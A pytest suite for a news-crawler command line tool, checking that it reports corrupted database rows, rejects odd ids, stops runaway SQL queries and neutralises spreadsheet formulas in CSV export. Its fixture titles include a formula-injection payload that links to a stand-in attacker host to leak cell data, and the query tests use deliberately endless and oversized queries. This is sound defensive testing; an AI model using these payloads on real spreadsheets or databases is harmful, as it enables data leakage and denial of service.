"""A damaged database, odd ids, formulas and runaway queries, through the real command.

Articles are stored with ``crawl fetch FILE``, then damaged behind the
crawler's back with sqlite3, as a bad disk, an old bug or another program
would: each command reports the bad row in one line and goes on with the rest.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import time
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from tests.localsite import CRAWL

Run = Callable[..., subprocess.CompletedProcess[str]]

STORY = ("<html><head><title>{title}</title></head><body><article><h1>{title}</h1>"
         + "<p>Story {n}: the ferry ran late again as the winter storms came in early, and the "
           "harbour office said the timetable would change from Monday for the season.</p>" * 3
         + "</article></body></html>")
TITLES = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "Ferry news", "@SUM(1+1)"]


@pytest.fixture
def run(tmp_path: Path) -> Run:
    def invoke(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([str(CRAWL), "--db", str(tmp_path / "news.db"), *args],
                              cwd=tmp_path, capture_output=True, text=True, timeout=120,
                              check=False)

    for n, title in enumerate(TITLES):
        page = tmp_path / f"story-{n}.html"
        page.write_text(STORY.format(title=title, n=n))
        stored = invoke("fetch", str(page), "--url", f"https://news.example/story-{n}",
                        "--format", "json")
        assert stored.returncode == 0, stored.stderr
    return invoke


def damage(tmp_path: Path, *statements: str) -> None:
    with closing(sqlite3.connect(tmp_path / "news.db")) as conn, conn:
        for statement in statements:
            conn.execute(statement)


def one_error_line(result: subprocess.CompletedProcess[str]) -> str:
    errors = [line for line in result.stderr.splitlines() if line.startswith("crawl: error:")]
    assert len(errors) == 1 and "Traceback" not in result.stderr, result.stderr
    return errors[0]


def test_export_reports_a_corrupted_row_and_exports_the_others(run: Run,
                                                               tmp_path: Path) -> None:
    damage(tmp_path, "UPDATE articles SET authors = '{not json' WHERE id = 2",
           "UPDATE articles SET text = CAST(x'4665727279ff20fe6e657773' AS TEXT) WHERE id = 3")
    result = run("export", "--format", "jsonl")
    assert result.returncode == 1
    assert one_error_line(result).startswith("crawl: error: article 2: its authors are not")
    exported = [json.loads(line) for line in result.stdout.splitlines()]
    assert [row["id"] for row in exported] == [1, 3]
    assert exported[1]["text"] == "Ferry\ufffd \ufffdnews"  # undecodable bytes, shown replaced
    shown = run("show", "2")
    assert shown.returncode == 1
    assert one_error_line(shown).startswith("crawl: error: article 2: its authors are not")


def test_reclean_reports_a_corrupted_page_and_recleans_the_others(run: Run,
                                                                  tmp_path: Path) -> None:
    damage(tmp_path, "UPDATE raw_pages SET body = x'0011223344' WHERE id = 1")
    result = run("reclean")
    assert result.returncode == 1
    assert one_error_line(result).startswith(
        "crawl: error: page 1 (https://news.example/story-0): not readable")
    assert result.stdout.startswith("3 pages: 0 changed, 2 unchanged, 0 without an article, "
                                    "1 failed")


def test_merge_reports_a_corrupted_row_in_one_line(run: Run, tmp_path: Path) -> None:
    damage(tmp_path, "UPDATE raw_pages SET body = x'789c0102' WHERE id = 1",
           "UPDATE articles SET authors = 'not json{' WHERE id = 2")
    result = run("merge", str(tmp_path / "news.db"), "--into", str(tmp_path / "merged.db"))
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    errors = result.stderr.splitlines()
    assert len(errors) == 2, errors  # one line per damaged row; the others merged
    assert errors[0].startswith("crawl: error: page 1 (https://news.example/story-0): "
                                "not readable")
    assert errors[1].startswith("crawl: error: article 2: its authors are not readable")
    with sqlite3.connect(tmp_path / "merged.db") as merged:
        assert merged.execute("SELECT count(*) FROM articles").fetchone() == (2,)


def test_csv_export_neutralises_formulas_unless_asked_not_to(run: Run) -> None:
    guarded = list(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
    assert [row["title"] for row in guarded] == ["'" + TITLES[0], TITLES[1], "'" + TITLES[2]]
    raw = list(csv.DictReader(io.StringIO(
        run("export", "--format", "csv", "--keep-formulas").stdout)))
    assert [row["title"] for row in raw] == TITLES


@pytest.mark.parametrize("key", ["٣", "²", "99999999999999999999999", "0", " 1"])
def test_show_of_an_odd_id_is_not_found(run: Run, key: str) -> None:
    result = run("show", key)
    assert result.returncode == 2
    assert one_error_line(result) == f"crawl: error: no stored article with id or URL {key!r}"


def test_a_query_that_never_ends_stops_at_its_timeout(run: Run) -> None:
    started = time.monotonic()
    result = run("query", "with recursive c(x) as (select 1 union all select x + 1 from c) "
                 "select count(*) from c", "--timeout", "1")
    assert time.monotonic() - started < 30
    assert result.returncode == 1
    assert one_error_line(result) == "crawl: error: query stopped after 1s (see --timeout)"


def test_a_query_cannot_build_a_huge_blob(run: Run) -> None:
    result = run("query", "select length(randomblob(900000000))")
    assert result.returncode == 2  # an input error under the exit-code contract
    assert "too big" in one_error_line(result)
